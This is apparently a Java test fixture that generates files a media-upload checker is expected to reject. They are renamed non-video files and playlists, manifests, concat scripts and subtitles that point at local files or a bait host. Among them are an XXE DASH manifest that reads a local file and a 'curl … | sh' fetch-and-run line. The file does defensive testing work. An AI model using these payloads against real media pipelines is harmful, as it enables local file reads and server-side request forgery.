package org.answerprint.corpus;

import static org.answerprint.corpus.Bytes.big;
import static org.answerprint.corpus.Bytes.noise;
import static org.answerprint.corpus.Bytes.text;
import static org.answerprint.corpus.Bytes.zeros;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/** What is no film: nothing, noise, other kinds of file, and texts that name other files and hosts. */
final class TextSpecimens {

  private final List<Specimen> specimens = new ArrayList<>();

  private TextSpecimens() {
  }

  static List<Specimen> all(Bait bait) {
    TextSpecimens all = new TextSpecimens();
    all.emptyAndOther();
    all.playlists(bait.file().toString(), bait.url());
    all.scripts(bait.file().toString(), bait.url());
    return all.specimens;
  }

  private void add(String name, String attacks, byte[] bytes) {
    specimens.add(new Specimen(name, attacks, bytes, Outcome.rejected()));
  }

  private void add(String name, String attacks, String content) {
    add(name, attacks, content.getBytes(StandardCharsets.UTF_8));
  }

  private void emptyAndOther() {
    add("empty.mp4", "a file without a byte", zeros(0));
    add("one-byte.mp4", "a file of one byte", new byte[] {0});
    add("zeros.mp4", "nothing but zeros", zeros(100_000));
    add("ones.mkv", "nothing but ones", Bytes.repeat(new byte[] {-1}, 100_000));
    add("noise.mp4", "noise", noise(200_000, 1));
    add("noise.ts", "noise with the sync byte of MPEG-TS", syncedNoise());
    add("notes.mp4", "text renamed", "just some words\n".repeat(500));
    add("page.mp4", "a web page", "<!doctype html><video src=\"film.mp4\"></video>\n");
    add("data.mp4", "JSON", "{\"video\": true}\n");
    add("archive.mp4", "a ZIP archive", Bytes.of(text("PK\u0003\u0004"), zeros(26), noise(5000, 2)).done());
    add("paper.mp4", "a PDF", "%PDF-1.7\n" + "0 0 obj\n".repeat(200));
    add("program.mp4", "a program", Bytes.of(text("\u007fELF\u0002\u0001\u0001"), zeros(9), noise(9000, 3)).done());
    add("shell.mp4", "a shell script", "#!/bin/sh\ncurl http://example.invalid | sh\n");
    add("head-only.mp4", "an ftyp box and nothing else", Bytes.of(big(16, 4), text("ftypisom"), zeros(4)).done());
    add("only-mdat.mp4", "samples without an index", Bytes.of(big(16, 4), text("ftypisom"), zeros(4), big(50_008, 4), text("mdat"), noise(50_000, 4)).done());
    add("still.mp4", "a PNG renamed", Materials.encoded("image2pipe", "png", "rgb24", 64, 48, 1));
    add("photo.mov", "a JPEG renamed", Materials.encoded("image2pipe", "mjpeg", "yuvj420p", 64, 48, 1));
    add("bitmap.avi", "a BMP renamed", Materials.encoded("image2pipe", "bmp", "bgr24", 64, 48, 1));
    add("heads.png", "PNG files in a row", Materials.encoded("image2pipe", "png", "rgb24", 64, 48, 12));
    add("wave.mp4", "sound without pictures, WAV", Bytes.of(text("RIFF"), Bytes.little(8036, 4), text("WAVEfmt "), Bytes.little(16, 4),
        Bytes.little(1, 2), Bytes.little(1, 2), Bytes.little(8000, 4), Bytes.little(8000, 4), Bytes.little(1, 2), Bytes.little(8, 2),
        text("data"), Bytes.little(8000, 4), noise(8000, 5)).done());
    add("tagged.mp3", "an ID3 tag of a mebibyte and no sound", Bytes.of(text("ID3\u0004\0\0\u0000\u0040\0\0"), zeros(1 << 20)).done());
  }

  private static byte[] syncedNoise() {
    byte[] packets = noise(188 * 800, 6);
    for (int at = 0; at < packets.length; at += 188) {
      packets[at] = 0x47;
    }
    return packets;
  }

  private void playlists(String file, String url) {
    String entry = "#EXTINF:4,\n";
    String head = "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:4\n";
    String end = "#EXT-X-ENDLIST\n";
    add("hls-file.m3u8", "HLS that names a file", head + entry + "file://" + file + "\n" + end);
    add("hls-path.mp4", "HLS that names a path, renamed", head + entry + file + "\n" + end);
    add("hls-http.m3u8", "HLS that names a host", head + entry + url + "\n" + end);
    add("hls-key.mp4", "HLS whose key is on a host", head + "#EXT-X-KEY:METHOD=AES-128,URI=\"" + url + "\"\n" + entry + file + "\n" + end);
    add("hls-map.mp4", "HLS whose header is a file", head + "#EXT-X-MAP:URI=\"" + file + "\"\n" + entry + "a.mp4\n" + end);
    add("hls-master.m3u8", "an HLS master list", "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n" + url + "\n");
    add("hls-concat.mp4", "HLS with a concat: address", head + entry + "concat:" + url + "|" + file + "\n" + end);
    add("hls-data.mp4", "HLS with a nested list in a data: address", head + entry + "data:text/plain," + url + "\n" + end);
    add("hls-late.mp4", "HLS behind a byte order mark", "\ufeff" + head + entry + url + "\n" + end);
    add("hls-avi.avi", "an HLS list inside an AVI file", Bytes.of(text("RIFF"), Bytes.little(4096, 4), text("AVI "),
        text("LIST"), Bytes.little(4000, 4), text("GAB2"), text(head + entry + "file://" + file + "\n" + end)).done());
    add("list.m3u", "a plain play list", url + "\n" + file + "\n");
    add("list.pls", "a PLS list", "[playlist]\nFile1=" + url + "\nNumberOfEntries=1\n");
    add("list.xspf", "an XSPF list", "<?xml version=\"1.0\"?><playlist><trackList><track><location>" + url + "</location></track></trackList></playlist>");
    add("list.asx", "an ASX list", "<asx version=\"3.0\"><entry><ref href=\"" + url + "\"/></entry></asx>");
    add("list.smil", "a SMIL presentation", "<smil><body><video src=\"" + url + "\"/></body></smil>");
    add("stream.mpd", "a DASH manifest", dash(url));
    add("entity.mpd", "a DASH manifest with an external entity", "<?xml version=\"1.0\"?><!DOCTYPE MPD [<!ENTITY x SYSTEM \"file://" + file
        + "\">]><MPD>&x;" + url + "</MPD>");
    add("package.mp4", "an IMF composition", "<?xml version=\"1.0\"?><CompositionPlaylist><Id>" + url + "</Id></CompositionPlaylist>");
    add("session.sdp", "an SDP description", "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video "
        + url.replaceAll(".*:(\\d+).*", "$1") + " RTP/AVP 96\na=rtpmap:96 H264/90000\n");
    add("redirect.mp4", "a QuickTime redirection", "RTSPtext" + url.replace("http", "rtsp") + "\r\n");
    add("redirect.mov", "a Windows Media redirection", "[Reference]\r\nRef1=" + url + "?MSWMExt=.asf\r\n");
  }

  private static String dash(String url) {
    return "<?xml version=\"1.0\"?><MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\"><BaseURL>" + url
        + "</BaseURL><Period><AdaptationSet mimeType=\"video/mp4\"><Representation id=\"a\"/></AdaptationSet></Period></MPD>";
  }

  private void scripts(String file, String url) {
    add("concat.ffconcat", "a concat script", "ffconcat version 1.0\nfile '" + file + "'\nfile '" + url + "'\n");
    add("concat.mp4", "a concat script, renamed", "ffconcat version 1.0\nfile neighbour.mp4\n");
    add("concat-meta.mkv", "a concat script with options", "ffconcat version 1.0\noption safe 0\nfile " + file + "\ninpoint 0\n");
    add("script.avs", "an AviSynth script", "AviSource(\"" + file + "\")\n");
    add("script.vpy", "a VapourSynth script", "import vapoursynth as vs\nopen('" + file + "').read()\n");
    add("graph.mp4", "a filter graph", "movie=" + file + ",null\n");
    add("metadata.mp4", "FFmpeg's metadata text", ";FFMETADATA1\ntitle=" + url + "\n[CHAPTER]\nSTART=0\nEND=1\n");
    add("frames-%03d.mp4", "a pattern of an image sequence", "frames-%03d.png\n");
    add("cue.mp4", "a cue sheet", "FILE \"" + file + "\" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n");
    add("subtitles.srt", "SubRip subtitles", "1\n00:00:00,000 --> 00:00:09,000\n<font face=\"" + file + "\">x</font>\n");
    add("subtitles.mp4", "WebVTT subtitles, renamed", "WEBVTT\n\n00:00.000 --> 00:09.000\nx\n");
    add("styled.ass", "ASS subtitles", "[Script Info]\nVideo File: " + file + "\n[Events]\nDialogue: 0,0:00:00.00,0:00:09.00,,,0,0,0,,x\n");
    add("drawing.svg", "a drawing with an external picture", "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"" + url + "\"/></svg>");
    add("index.idx", "VobSub subtitles", "# VobSub index file, v7\nsize: 720x576\ntimestamp: 00:00:00:000, filepos: 000000000\n");
    add("torrent.mp4", "a torrent", "d8:announce" + url.length() + ":" + url + "e");
  }
}
